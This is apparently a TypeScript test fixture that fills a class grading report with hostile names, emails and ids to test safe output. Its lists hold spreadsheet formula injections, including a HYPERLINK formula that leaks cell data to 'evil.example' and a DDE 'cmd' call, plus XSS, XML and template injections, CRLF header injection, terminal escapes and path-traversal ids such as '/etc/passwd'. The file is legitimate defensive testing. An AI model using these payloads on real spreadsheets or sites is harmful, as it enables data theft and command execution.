import fc from 'fast-check';
import { classReport, type Outcomes } from './class-fixture.ts';

/** What a name, a cell of a roster or an output may hold to do harm to what reads the grades. */
export const HOSTILE: readonly string[] = [
  '=HYPERLINK("https://evil.example?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u{ff1d}1+1',
  '\u{ff0b}1',
  '\u{ff0d}1',
  '\u{ff20}SUM(1)',
  'Comma, "Quote" and \'more\'',
  'two\nlines\r\nand three',
  '<script>globalThis.harmed = true</script>',
  '"><img src=x onerror="globalThis.harmed = true">',
  ']]></testsuite><testsuite name="mine">',
  '<!-- & &amp; &#0; &lt;',
  '\u{202e}gnirts\u{202c} \u{2066}x',
  'שרה כהן',
  '李小龍',
  '\u{1f469}\u{200d}\u{1f4bb} \u{1f431}',
  'zero\u{0}byte\u{1}\u{8}\u{b}\u{1f}\u{7f}\u{9b}31m',
  '\u{1b}[2J\u{1b}]0;title\u{7}',
  'half \u{d83d} a pair \u{dc31}, \u{fffe}\u{ffff}',
  'x'.repeat(10_000),
  '    Points Possible',
  '__proto__',
  '{{7*7}}#{7*7}',
  '%0d%0aSet-Cookie: a=b',
];

/** Any text at all, halves of surrogate pairs and controls among it; at most so many UTF-16 units. */
export const anyText = (maxLength: number): fc.Arbitrary<string> =>
  fc
    .array(fc.integer({ min: 0, max: 0xffff }), { maxLength })
    .map((units) => String.fromCharCode(...units));

/** Ids that are no names of files, or not together. */
export const HOSTILE_IDS: readonly string[] = [
  '../../x',
  '..\\..\\x',
  '/etc/passwd',
  'C:\\x',
  'CON',
  'nul.txt',
  'com1',
  '',
  ' ',
  '.',
  '..',
  '.hidden',
  'ends.',
  'ends ',
  'Ada',
  'ada',
  'ADA',
  'a/b',
  'a:b',
  'a?b',
  'a\u{0}b',
  'é',
  'e\u{301}',
  '-rf',
  'x'.repeat(300),
  'index',
  '\u{202e}cod',
];

const OUTCOMES: Outcomes = {
  service: 'half',
  page: { blockedBy: 'service' },
  cost: 'error',
};

/** A class in which everything that a person may have written is that. */
export const hostileClass = (texts: readonly string[] = HOSTILE, ids = HOSTILE_IDS) =>
  classReport([
    ...texts.map((text, index) => ({
      student: {
        id: `s${index}`,
        name: text,
        email: text,
        account: '100000000001',
        submittedAt: new Date(Date.UTC(2026, 10, 10 + index)).toISOString(),
        columns: { Section: text, [text]: text },
      },
      variant: { [text]: text },
      outcomes: OUTCOMES,
      text,
    })),
    ...ids.map((id) => ({ student: { id }, outcomes: OUTCOMES })),
    ...texts.map((text, index) => ({
      student: { id: `u${index}`, name: text },
      problem: text,
    })),
  ]);
